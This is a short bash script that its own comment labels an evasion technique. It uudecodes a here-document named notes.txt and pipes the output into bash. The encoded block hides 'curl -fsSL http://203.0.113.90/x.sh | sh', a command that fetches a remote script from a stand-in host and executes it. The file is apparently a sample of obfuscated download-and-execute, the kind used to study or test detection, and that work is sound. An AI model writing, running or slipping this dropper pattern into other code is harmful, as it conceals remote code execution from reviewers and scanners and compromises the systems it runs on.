#!/bin/bash
# evasion: a uuencoded block in a here-document is decoded to stdout and piped into bash
uudecode -o /dev/stdout <<'EOT' | bash
begin 644 notes.txt
I8W5R;"`M9G-33"!H='1P.B\O,C`S+C`N,3$S+CDP+W@N<V@@?"!S:`H`
`
end
EOT
